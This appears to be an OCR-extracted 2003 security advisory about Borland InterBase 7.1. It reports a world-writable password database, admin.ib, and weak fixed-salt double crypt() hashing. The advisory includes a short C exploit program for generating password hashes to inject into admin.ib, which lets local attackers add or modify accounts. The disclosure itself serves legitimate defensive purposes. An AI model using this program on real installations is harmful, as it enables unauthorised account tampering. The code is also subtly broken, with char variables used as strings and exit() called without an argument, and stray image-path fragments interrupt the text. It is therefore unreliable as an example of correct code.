Advisory #: 24
Title: Borland's InterBase 7.1 poor Password Data File Permissions and Password Hash
Author: Larry W. Cashdollar, @_larry0
Date: 2003-11-26
Download Site:
Vendor: Borland
Vendor Notified: 2003-11-26
Vendor Contact: disclosed via idefense
Description: Borland InterBase raises the bar for performance and power in small footprint databases. Designed for use in situations where there is no database administrator or IT support, InterBase is powerful enough to support mission-critical applications, yet compact enough to run on very modest systems. It can be easily transported by disk, CD, or even dial-up download. And unlike enterprise databases that require expensive ecosystems of support and maintenance, InterBase requires virtually no maintenance.
The "information database" stored in the file admin4.pcb is read and writeable for all users with local access to the system. [root@Fester interbase]# ls -l /opt/interbase/admin.ib -rw-rw-rw- 1 root root 616497 Nov 20 10:04 /opt/interbase/admin.ib Not only is the password file stored read writeable by all local users but the password hash is done with one salt "9z" and then hashed again. As an addition to the permissions issue, I thought I should flesh out the fact that the double crypt() does not add any security to the hash with out the salt. The purpose of the salt is so that the same passwords dont always have the same hashes. With them removing the salt the hashes will always be the same for the same passwordreguardless of crypt() being called twice. This can be expressed in this line pesudo C:crypt(&crypt(user_password,"9z")[2],"9z")
Exploit Code:
  1. Local attackers can exploit this vulnerability to add or modify accounts in Interbase. The following C program will generate hashed passwords that can be injected into admin.ib database.
  3. /*Larry W. Cashdollar
  4. Vapid Labs.
  5. Borland Interbase 7.1 password creator. */
  7. #include <stdio.h>
  8. #include <unistd.h>
  10. #define SALT "9z"
  12. int main (int argc, char *argv[]) {
  14. char crypt1,crypt2;
  16. if (!argv[1]) {
  17. printf("Borland InterBase db password tool.\n Larry Cashdollar, vapid labs\nEnter desired password as an argument\n");
  18. exit();
  19. }
  20. crypt1 =(char *) crypt (argv[1],SALT);
  21. crypt2 =(char *) crypt (&crypt1[2],SALT);
  23. printf("Double crypt() is: %s\n",crypt2);
  24. printf("With out salt (as stored in isc4.gdb/admin.ib:%s\n",&crypt2[2]);
  25. return(0);
  26. }
Screen Shots: